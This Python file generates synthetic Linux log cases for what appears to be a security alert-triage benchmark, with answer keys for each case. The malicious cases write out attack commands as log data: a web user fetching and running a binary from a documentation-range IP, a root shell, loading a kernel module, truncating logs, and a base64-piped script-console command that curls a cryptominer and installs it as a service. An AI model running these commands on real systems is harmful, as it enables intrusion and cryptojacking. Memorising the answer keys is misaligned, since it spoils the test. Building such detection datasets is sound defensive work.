# ruff: noqa: E501
"""Linux cases: audit records (several lines an event), journal exports, kernel firewall lines."""

from datetime import datetime, timedelta
from typing import Any

from casebook import Case, Log, iso


def hexed(command: str) -> str:
    """Encode an argument as auditd does when it holds spaces."""
    return command.encode().hex().upper()


def execve(
    when: datetime,
    serial: int,
    uid: int,
    exe: str,
    *arguments: str,
    key: str = "exec",
    auid: int = 4294967295,
    success: str = "yes",
) -> str:
    """A set of audit records of one execution: SYSCALL, EXECVE, CWD, PATH."""
    stamp = f"msg=audit({when.timestamp():.3f}:{serial})"
    pid = 2000 + serial % 20000
    shown = " ".join(f'a{n}="{a}"' if " " not in a else f"a{n}={hexed(a)}" for n, a in enumerate(arguments))
    return "\n".join(
        (
            f'type=SYSCALL {stamp}: arch=c000003e syscall=59 success={success} exit=0 a0=55d1 a1=55d2 a2=55d3 a3=8 items=2 ppid={pid - 1} pid={pid} auid={auid} uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=(none) ses=4294967295 comm="{exe.rsplit("/", 1)[-1][:15]}" exe="{exe}" key="{key}"',
            f"type=EXECVE {stamp}: argc={len(arguments)} {shown}",
            f'type=CWD {stamp}: cwd="{"/var/www/app" if uid == 33 else "/"}"',
            f'type=PATH {stamp}: item=0 name="{exe}" inode={90000 + serial % 999} dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0',
        )
    )


def user_record(when: datetime, serial: int, kind: str, **fields: str) -> str:
    """A one-line audit record of the user space."""
    inner = " ".join(
        f'{name}="{value}"' if name in ("acct", "exe") else f"{name}={value}" for name, value in fields.items()
    )
    return f"type={kind} msg=audit({when.timestamp():.3f}:{serial}): pid={1500 + serial % 700} uid=0 auid=4294967295 ses=4294967295 msg='{inner}'"


def audit_background(case: Case, log: Log, events: int, hours: float) -> None:
    """Cron, log-ins of a service, and the web application's own helpers."""
    for _ in range(events):
        when, serial = case.sometime(hours=hours), case.dice.randrange(41000, 70000)
        chance = case.dice.random()
        if chance < 0.35:
            log.add(
                when,
                user_record(
                    when,
                    serial,
                    case.dice.choice(("CRED_ACQ", "USER_START", "CRED_DISP", "USER_END")),
                    op="PAM:session_open",
                    acct="root",
                    exe="/usr/sbin/cron",
                    hostname="?",
                    addr="?",
                    terminal="cron",
                    res="success",
                ),
            )
        elif chance < 0.7:
            exe, *arguments = case.dice.choice(
                (
                    ("/usr/bin/convert", "convert", "-resize", "640x", "in.jpg"),
                    ("/usr/bin/gs", "gs", "-q", "-dBATCH", "a.pdf"),
                    ("/usr/bin/php8.2", "php", "artisan", "queue:work"),
                )
            )
            log.add(when, execve(when, serial, 33, exe, *arguments))
        else:
            log.add(
                when,
                execve(
                    when,
                    serial,
                    0,
                    *case.dice.choice(
                        (
                            ("/usr/bin/find", "find", "/var/lib/php/sessions", "-mmin", "+30"),
                            ("/usr/sbin/logrotate", "logrotate", "/etc/logrotate.conf"),
                            ("/usr/bin/df", "df", "-P"),
                        )
                    ),
                ),
            )


def web_to_kernel() -> Case:
    """The web server's user fetches a program, becomes root and loads a kernel module; records span lines."""
    case = Case("m09_auditd_records_web_to_root", "2025-01-29 03:00:00")
    log = case.log("audit.log")
    audit_background(case, log, 150, 5)
    acts: tuple[tuple[float, str, int, str, tuple[str, ...]], ...] = (
        (150, "shell", 33, "/usr/bin/dash", ("sh", "-c", "id; uname -a; cat /etc/passwd")),
        (151, "shell", 33, "/usr/bin/id", ("id",)),
        (153, "fetch", 33, "/usr/bin/curl", ("curl", "-s", "-o", "/dev/shm/.x1", "http://203.0.113.18:8000/pk")),
        (153.5, "fetch", 33, "/usr/bin/chmod", ("chmod", "+x", "/dev/shm/.x1")),
        (154, "escalate", 33, "/dev/shm/.x1", ("/dev/shm/.x1",)),
        (154.2, "escalate", 0, "/usr/bin/bash", ("/bin/bash", "-p")),
        (
            156,
            "fetch_module",
            0,
            "/usr/bin/wget",
            ("wget", "-q", "http://203.0.113.18:8000/nf_helper.ko", "-O", "/lib/modules/nf_helper.ko"),
        ),
        (157, "module", 0, "/usr/bin/kmod", ("insmod", "/lib/modules/nf_helper.ko")),
        (158, "history", 0, "/usr/bin/truncate", ("truncate", "-s", "0", "/var/log/apache2/access.log")),
    )
    for position, (minutes, step, uid, exe, arguments) in enumerate(acts):
        when = case.after(minutes=minutes)
        log.add(
            when,
            execve(when, 71000 + position, uid, exe, *arguments, key="rootcmd" if uid == 0 else "exec"),
            step,
        )
    case.alert = {
        "rule_id": "ka-17",
        "summary": "Kernel module loaded by a process that descends from the web server",
        "event": {"epoch": round(case.after(minutes=157).timestamp(), 3), "comm": "insmod", "node": "pic-web4"},
        "urgency": 1,
    }
    return case.judge(
        "malicious",
        "critical high",
        "The web server's user runs a shell, fetches a program to /dev/shm that makes it root, then fetches and loads a kernel module and empties the web server's log.",
        steps={
            "shell": "the web server's user runs a shell and asks who it is",
            "fetch": "a hidden program is fetched and made executable",
            "escalate": "it runs, and a root shell follows",
            "module": "a kernel module is loaded",
        },
        optional={
            "fetch_module": "the module is fetched from the same address",
            "history": "the access log is emptied",
        },
        techniques="T1547.006 T1105 T1068",
        more_techniques="T1059.004 T1190 T1505.003 T1070.002 T1070 T1014 T1033 T1082 T1564.001 T1548 T1071.001 T1087.001 T1059 T1222.002 T1548.001 T1070.006",
        iocs=("203.0.113.18", "nf_helper.ko", "/dev/shm/.x1"),
        more_iocs=(
            "/lib/modules/nf_helper.ko",
            "http://203.0.113.18:8000/pk",
            "http://203.0.113.18:8000/nf_helper.ko",
            ".x1",
        ),
        not_iocs=("pic-web4", "/usr/bin/convert"),
    )


def package_update() -> Case:
    """A nightly upgrade adds a system user, changes a set-uid program and restarts a service."""
    case = Case("b09_auditd_unattended_upgrade", "2025-03-02 04:00:00")
    log = case.log("audit.log")
    audit_background(case, log, 110, 49)
    serial = 80000
    for day in range(3):
        acts: list[tuple[float, str, tuple[str, ...], str]] = [
            (0, "/usr/bin/python3.11", ("/usr/bin/python3", "/usr/bin/unattended-upgrade"), "habit"),
            (
                1,
                "/usr/bin/dpkg",
                (
                    "/usr/bin/dpkg",
                    "--status-fd",
                    "12",
                    "--unpack",
                    "--auto-deconfigure",
                    f"/var/cache/apt/archives/{('libxml2', 'openssl', 'chrony')[day]}.deb",
                ),
                "habit",
            ),
        ]
        if day == 2:
            acts += [
                (1.2, "/usr/bin/dash", ("/bin/sh", "/var/lib/dpkg/info/chrony.postinst", "configure"), "postinst"),
                (
                    1.3,
                    "/usr/sbin/useradd",
                    ("useradd", "--system", "--home-dir", "/var/lib/chrony", "--shell", "/usr/sbin/nologin", "_chrony"),
                    "alerted",
                ),
                (1.6, "/usr/bin/chmod", ("chmod", "4755", "/usr/lib/chrony/helper"), "postinst"),
                (1.8, "/usr/bin/systemctl", ("systemctl", "restart", "chrony.service"), "postinst"),
            ]
        for minutes, exe, arguments, step in acts:
            when = case.after(hours=24 * day + 0.5, minutes=minutes)
            serial += 1
            text = execve(when, serial, 0, exe, *arguments, key="rootcmd").split("\n")
            for line in text:  # this collector writes each record as an event of its own
                log.add(when, line, step)
    when = case.after(hours=48.5, minutes=1.35)
    log.add(
        when,
        user_record(
            when,
            serial + 9,
            "ADD_USER",
            op="add-user",
            acct="_chrony",
            exe="/usr/sbin/useradd",
            hostname="?",
            addr="?",
            terminal="?",
            res="success",
        ),
        "alerted",
    )
    case.alert = {
        "rule": "Local account created by root outside of a session",
        "level": "high",
        "@timestamp": iso(case.after(hours=48.5, minutes=1.3)),
        "fields": {"account": "_chrony", "exe": "/usr/sbin/useradd"},
    }
    return case.judge(
        "benign",
        "informational low",
        "The nightly upgrade unpacks chrony; its installation script makes the service's system user without a shell, sets a mode and restarts the service. The nights before had other packages.",
        steps={
            "alerted": "the alerted account, a system account without a shell",
            "postinst": "made by the package's own installation script",
        },
        optional={"habit": "an upgrade at the same hour every night"},
        not_iocs=("_chrony", "/usr/sbin/useradd"),
    )


def journal(case: Case, when: datetime, unit: str, message: str, host: str, **more: str) -> dict[str, Any]:
    """A journal entry as `journalctl -o json` writes it."""
    return {
        "__REALTIME_TIMESTAMP": str(int(when.timestamp() * 1_000_000)),
        "__MONOTONIC_TIMESTAMP": str(int((when - case.start).total_seconds() * 1_000_000) + 88_000_000),
        "_BOOT_ID": "6a1e0c77d1f04c8e9f1d2ab04c55e0aa",
        "_HOSTNAME": host,
        "_SYSTEMD_UNIT": unit,
        "SYSLOG_IDENTIFIER": unit.removesuffix(".service"),
        "PRIORITY": "6",
        "_PID": str(case.dice.randrange(500, 9000)),
        "_UID": "0",
        "MESSAGE": message,
        **more,
    }


def journal_background(case: Case, log: Log, host: str, events: int, hours: float) -> None:
    """Timers, a build service, containers and network management."""
    kinds = (
        ("systemd-timesyncd.service", "Contacted time server 10.3.0.1:123."),
        ("jenkins.service", "Started build orders-main #{n}"),
        ("jenkins.service", "Finished: SUCCESS orders-main #{n}"),
        ("containerd.service", "starting containerd container id=c{n}"),
        ("NetworkManager.service", "dhcp4 (eth0): state changed new lease"),
        ("systemd.service", "logrotate.service: Deactivated successfully."),
        ("sshd.service", "Accepted publickey for deploy from 10.3.0.15 port 4{n} ssh2: ED25519 SHA256:gq8m1"),
    )
    for _ in range(events):
        when = case.sometime(hours=hours)
        unit, message = case.dice.choice(kinds)
        log.add(when, journal(case, when, unit, message.replace("{n}", str(case.dice.randrange(1000, 9999))), host))


def build_server_miner() -> Case:
    """A build server's console is abused; a service that mines stays."""
    case = Case("m10_journald_build_server_miner", "2025-10-21 22:00:00")
    log = case.log("journal.json")
    host = "bld-02"
    journal_background(case, log, host, 260, 6)
    acts = (
        (120, "console", "jenkins.service", "Login failed for user admin from 198.51.100.44"),
        (121, "console", "jenkins.service", "Login failed for user admin from 198.51.100.44"),
        (122, "console", "jenkins.service", "Login failed for user builder from 198.51.100.44"),
        (124, "login", "jenkins.service", "Login succeeded for user builder from 198.51.100.44"),
        (
            126,
            "script",
            "jenkins.service",
            "Script console used by builder: 'bash -c {echo,Y3VybCAtcw==}|{base64,-d}|bash'.execute()",
        ),
        (
            127,
            "sudo",
            "sudo.service",
            "jenkins : PWD=/var/lib/jenkins ; USER=root ; COMMAND=/usr/bin/curl -so /usr/local/bin/kworkerds http://198.51.100.45/m/kw",
        ),
        (
            128,
            "service",
            "sudo.service",
            "jenkins : PWD=/var/lib/jenkins ; USER=root ; COMMAND=/usr/bin/tee /etc/systemd/system/kworkerds.service",
        ),
        (
            128.5,
            "service",
            "sudo.service",
            "jenkins : PWD=/var/lib/jenkins ; USER=root ; COMMAND=/usr/bin/systemctl enable --now kworkerds.service",
        ),
        (129, "service", "systemd.service", "Started kworkerds.service - kernel worker."),
        (129.2, "miner", "kworkerds.service", "net: use pool stratum+tcp://pool.slatewater.example:3333 user 48aRf"),
        (140, "miner", "kworkerds.service", "cpu accepted (12/0) diff 120001"),
        (171, "miner", "kernel.service", "cpu clock throttled, temperature above threshold"),
    )
    for minutes, step, unit, message in acts:
        when = case.after(minutes=minutes)
        log.add(when, journal(case, when, unit, message, host), step)
    case.alert = {
        "labels": {"alertname": "HostHighCpuLoad", "instance": f"{host}:9100", "severity": "page"},
        "annotations": {"description": "CPU load above 98 % for 40 minutes, process kworkerds"},
        "activeAt": iso(case.after(minutes=170), 9),
    }
    return case.judge(
        "malicious",
        "high critical",
        "Someone guesses the build server's password, uses its script console, fetches a miner as root from a second address and installs it as a service.",
        steps={
            "login": "log-in after failures from the same outside address",
            "script": "the script console runs an encoded command",
            "sudo": "root fetches a program from a second address",
            "service": "it is installed as a service",
            "miner": "the service connects to a mining pool",
        },
        optional={"console": "failed log-ins before"},
        techniques="T1496 T1543.002",
        more_techniques="T1110.001 T1110 T1078 T1059.004 T1059 T1105 T1036.004 T1036.005 T1036 T1548.003 T1190 T1027 T1543 T1496.001 T1140 T1071 T1071.001 T1133 T1569.002",
        iocs=("198.51.100.44", "198.51.100.45", "pool.slatewater.example"),
        more_iocs=(
            "kworkerds",
            "/usr/local/bin/kworkerds",
            "kworkerds.service",
            "http://198.51.100.45/m/kw",
            "builder",
            "stratum+tcp://pool.slatewater.example:3333",
        ),
        not_iocs=("10.3.0.15", "10.3.0.1", "deploy", host),
    )


def kernel_line(
    when: datetime, host: str, prefix: str, source: str, target: str, port: int, source_port: int, protocol: str = "TCP"
) -> str:
    """A kernel firewall line."""
    stamp = when.strftime("%b %e %H:%M:%S")
    return f"{stamp} {host} kernel: [{when.timestamp() % 10**6:.6f}] {prefix}IN=eth1 OUT=eth0 MAC=52:54:00:aa:10:01:52:54:00:aa:10:02:08:00 SRC={source} DST={target} LEN=60 TOS=0x00 PREC=0x00 TTL=63 ID={source_port} DF PROTO={protocol} SPT={source_port} DPT={port} WINDOW=64240 RES=0x00 SYN URGP=0"


def firewall_background(case: Case, log: Log, host: str, events: int, hours: float) -> None:
    """Clients reaching servers, and the usual small stuff dropped."""
    for _ in range(events):
        when = case.sometime(hours=hours)
        client = f"10.66.{case.dice.randrange(1, 4)}.{case.dice.randrange(20, 90)}"
        if case.dice.random() < 0.8:
            server, port = case.dice.choice(
                (("10.66.9.5", 443), ("10.66.9.6", 53), ("10.66.9.7", 25), ("10.66.9.8", 8443))
            )
            log.add(
                when, kernel_line(when, host, "FW-ACCEPT ", client, server, port, case.dice.randrange(32768, 60999))
            )
        else:
            log.add(
                when,
                kernel_line(
                    when,
                    host,
                    "FW-DROP ",
                    client,
                    "10.66.9.255",
                    case.dice.choice((137, 1900, 5353)),
                    case.dice.randrange(1024, 60999),
                    "UDP",
                ),
            )


def worm() -> Case:
    """An internal machine tries one port on a whole network and reaches two."""
    case = Case("m11_iptables_internal_sweep", "2025-07-30 09:00:00")
    log = case.log("kern.log")
    firewall_background(case, log, "gw-inner", 240, 3)
    for last in range(1, 121):
        when = case.after(minutes=80, seconds=last * 0.3)
        reached = last in (48, 97)
        log.add(
            when,
            kernel_line(
                when,
                "gw-inner",
                "FW-ACCEPT " if reached else "FW-DROP ",
                "10.66.2.41",
                f"10.66.5.{last}",
                445,
                49000 + last,
            ),
            "reached" if reached else "sweep",
        )
    for minute in range(8):
        when = case.after(minutes=84 + 2 * minute)
        log.add(
            when,
            kernel_line(when, "gw-inner", "FW-ACCEPT ", "10.66.5.97", "203.0.113.128", 4444, 50100 + minute),
            "call_home",
        )
    case.alert = {
        "msg": "Host sweeps port 445",
        "date": case.after(minutes=80).strftime("%b %e %H:%M:%S"),
        "src": "10.66.2.41",
        "proto": "tcp",
        "device": "gw-inner",
    }
    return case.judge(
        "malicious",
        "medium high",
        "10.66.2.41 tries port 445 on 120 neighbours within a minute and reaches two; one of these then connects to an outside address on port 4444 every two minutes.",
        steps={
            "sweep": "one port on a whole network within a minute",
            "call_home": "a machine that was reached connects outside at regular intervals",
        },
        optional={"reached": "two machines answer"},
        techniques="T1046",
        more_techniques="T1018 T1021.002 T1210 T1571 T1071 T1595.001 T1135 T1095 T1570 T1021",
        iocs=("10.66.2.41", "203.0.113.128"),
        more_iocs=("10.66.5.97",),
        not_iocs=("10.66.9.5", "10.66.9.6", "gw-inner"),
    )


def service_checks() -> Case:
    """The monitoring server tries every service of every machine, every quarter of an hour."""
    case = Case("b10_iptables_service_checks", "2025-09-09 00:00:00")
    log = case.log("kern.log")
    firewall_background(case, log, "gw-dmz", 170, 4)
    for turn in range(16):
        for position, (last, port) in enumerate(
            (machine, port) for machine in (5, 6, 7, 8) for port in (22, 25, 53, 80, 443, 3306, 5432, 8443)
        ):
            when = case.after(minutes=15 * turn, seconds=position * 0.4)
            prefix = "FW-DROP " if port in (3306, 5432) else "FW-ACCEPT "
            log.add(
                when,
                kernel_line(when, "gw-dmz", prefix, "10.66.8.2", f"10.66.9.{last}", port, 40000 + position),
                "alerted" if turn == 14 else "habit",
            )
    started = (case.start + timedelta(minutes=210)).strftime("%b %e %H:%M:%S")
    case.alert = {
        "signature": "Port scan: more than 20 ports on several hosts",
        "severity": "critical",
        "time": started,
        "attacker": "10.66.8.2",
        "targets": 4,
    }
    return case.judge(
        "benign",
        "informational low",
        "10.66.8.2 tries the same eight ports of the same four servers every fifteen minutes, all night: service checks.",
        steps={"alerted": "the alerted round", "habit": "the same round every fifteen minutes"},
        not_iocs=("10.66.8.2", "10.66.9.5"),
    )


CASES = (web_to_kernel, package_update, build_server_miner, worm, service_checks)
